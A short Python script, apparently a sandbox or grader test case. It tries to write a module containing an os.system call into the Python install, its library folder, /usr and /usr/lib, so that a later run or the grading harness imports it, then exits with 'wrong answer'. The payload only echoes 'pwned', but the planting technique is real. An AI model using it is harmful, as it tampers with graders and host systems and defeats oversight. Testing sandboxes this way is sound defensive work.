# Plant a module in the interpreter's install and in /usr for the next run (or the harness) to import.
import os
import sys

for folder in (sys.base_prefix, os.path.join(sys.base_prefix, "lib", f"python{sys.version_info[0]}.{sys.version_info[1]}"),
               "/usr", "/usr/lib"):
    try:
        with open(os.path.join(folder, "@@MARKER@@"), "w") as f:
            f.write("import os; os.system('echo pwned')")
        print("planted in", folder)
    except OSError as exc:
        print(folder, type(exc).__name__)
raise SystemExit("wrong answer")
